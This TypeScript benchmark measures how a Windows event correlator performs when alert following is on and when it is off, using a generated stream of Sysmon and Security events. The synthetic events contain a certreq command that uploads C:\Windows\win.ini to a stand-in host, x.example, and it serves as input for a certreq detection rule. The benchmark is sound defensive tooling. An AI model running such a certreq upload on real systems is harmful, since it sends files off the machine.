/**
 * What following alerts costs the live service: a generated process-activity stream (Sysmon 1/3/5/11/22,
 * Security 4688/4689, 50 hosts, PID reuse) fed as `serve` does — observe() every event, alertsFor() on 1 in
 * 47, takeContextUpdates() after every 1,000-event batch — once with alert following off (watchCapacity 0)
 * and once with the default, interleaved over several rounds (best round shown). Reports events/s, updates
 * found, and the heap held by the followed alerts.
 * Run: node --expose-gc --import tsx bench/live-context.bench.ts [events]   (default 300000)
 */
import { Correlator } from '../src/correlate/index.js';
import type { Detection, RuleMeta } from '../src/model/alert.js';
import type { WinEvent } from '../src/model/event.js';
import { SECURITY_CHANNEL, SECURITY_PROVIDER, SYSMON_CHANNEL, SYSMON_PROVIDER } from '../src/model/event.js';
import { fmt } from './lib.js';

const EVENTS = Number(process.argv[2] ?? 300_000);
const BATCH = 1000;
const ROUNDS = 3;
const gc = (globalThis as { gc?: () => void }).gc ?? ((): void => {});

const RULE: RuleMeta = { id: 'certreq-download-upload', title: 'Suspicious Certreq Command to Download or Upload', level: 'high', references: [], tags: [], falsepositives: [], source: 'builtin:certreq-download-upload.yml', extra: {} };

/** A deterministic stream: processes start, act (network, DNS, file), start children and end, on 50 hosts. */
function stream(n: number): WinEvent[] {
  let seed = 11;
  const random = (): number => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff), seed / 0x7fffffff);
  const out: WinEvent[] = [];
  for (let i = 0; i < n; i++) {
    const host = `WS${String(i % 50).padStart(3, '0')}.corp.example`;
    const time = new Date(Date.UTC(2026, 0, 1) + i * 50).toISOString();
    // A process started a little earlier on this host (same i mod 50): its later activity.
    const back = 50 * Math.floor(random() * 40);
    const j = Math.max(i % 50, i - back);
    const pid = (j * 4) % 32768;
    const guid = `5770385f-c22a-43e0-bf4c-${String(j).padStart(12, '0')}`;
    const r = random();
    const sys = { timeCreated: time, computer: host, recordId: i };
    if (r < 0.25) out.push({ system: { provider: SECURITY_PROVIDER, channel: SECURITY_CHANNEL, eventId: 4688, ...sys }, data: { NewProcessId: `0x${((i * 4) % 32768).toString(16)}`, ProcessId: `0x${pid.toString(16)}`, NewProcessName: 'C:\\Windows\\System32\\certreq.exe', CommandLine: 'certreq -Post -config https://x.example/u C:\\Windows\\win.ini' }, origin: { file: 'bench' } });
    else if (r < 0.35) out.push({ system: { provider: SECURITY_PROVIDER, channel: SECURITY_CHANNEL, eventId: 4689, ...sys }, data: { ProcessId: `0x${pid.toString(16)}`, ProcessName: 'C:\\Windows\\System32\\certreq.exe', Status: '0x0' }, origin: { file: 'bench' } });
    else {
      const own = { ProcessGuid: `{${guid}}`, ProcessId: String(pid) };
      const sysmon = (eventId: number, data: Record<string, string>): WinEvent => ({ system: { provider: SYSMON_PROVIDER, channel: SYSMON_CHANNEL, eventId, ...sys }, data, origin: { file: 'bench' } });
      if (r < 0.65) out.push(sysmon(1, { ProcessGuid: `{5770385f-c22a-43e0-bf4c-${String(i).padStart(12, '0')}}`, ProcessId: String((i * 4) % 32768), Image: 'C:\\Windows\\System32\\certreq.exe', OriginalFileName: 'CertReq.exe', CommandLine: 'certreq -Post -config https://x.example/u C:\\Windows\\win.ini', ParentProcessGuid: own.ProcessGuid, ParentProcessId: own.ProcessId }));
      else if (r < 0.75) out.push(sysmon(5, { ...own, Image: 'C:\\Windows\\System32\\certreq.exe' }));
      else if (r < 0.88) out.push(sysmon(3, { ...own, DestinationIp: '203.0.113.9', DestinationPort: '443', Protocol: 'tcp' }));
      else if (r < 0.94) out.push(sysmon(22, { ...own, QueryName: 'x.example', QueryResults: '203.0.113.9;' }));
      else out.push(sysmon(11, { ...own, TargetFilename: 'C:\\Users\\Public\\out.txt' }));
    }
  }
  return out;
}

function run(events: WinEvent[], watchCapacity: number): { seconds: number; alerts: number; updates: number; heapMiB: number } {
  gc();
  const heapBefore = process.memoryUsage().heapUsed;
  const c = new Correlator({ watchCapacity });
  let alerts = 0;
  let updates = 0;
  const t0 = performance.now();
  for (let i = 0; i < events.length; i++) {
    const ev = events[i]!;
    c.observe(ev);
    const id = ev.system.eventId;
    if ((id === 1 || id === 4688) && i % 47 === 0) alerts += c.alertsFor(ev, [{ rule: RULE, event: ev } satisfies Detection]).length;
    if (i % BATCH === BATCH - 1) updates += c.takeContextUpdates().length;
  }
  updates += c.takeContextUpdates().length;
  const seconds = (performance.now() - t0) / 1000;
  gc();
  const heapMiB = (process.memoryUsage().heapUsed - heapBefore) / 2 ** 20;
  if (c.stats().indexed === 0) throw new Error('nothing indexed');
  return { seconds, alerts, updates, heapMiB };
}

const events = stream(EVENTS);
const best = { off: Infinity, on: Infinity };
let on = run(events.slice(0, 1000), 20_000);
let off = run(events.slice(0, 1000), 0);
for (let round = 0; round < ROUNDS; round++) {
  off = run(events, 0);
  best.off = Math.min(best.off, off.seconds);
  on = run(events, 20_000);
  best.on = Math.min(best.on, on.seconds);
}
console.log(`live context, following off: ${fmt(EVENTS / best.off / 1000)} k events/s (${off.alerts} alerts; correlator heap ≈ ${fmt(off.heapMiB)} MiB)`);
console.log(`live context, following on:  ${fmt(EVENTS / best.on / 1000)} k events/s (${on.alerts} alerts, ${on.updates} context updates; correlator heap ≈ ${fmt(on.heapMiB)} MiB)`);
console.log(`  cost of following: ${fmt(((best.on - best.off) / EVENTS) * 1e6, 2)} µs per event (best of ${ROUNDS} rounds; 2 cores shared with other work: noisy)`);
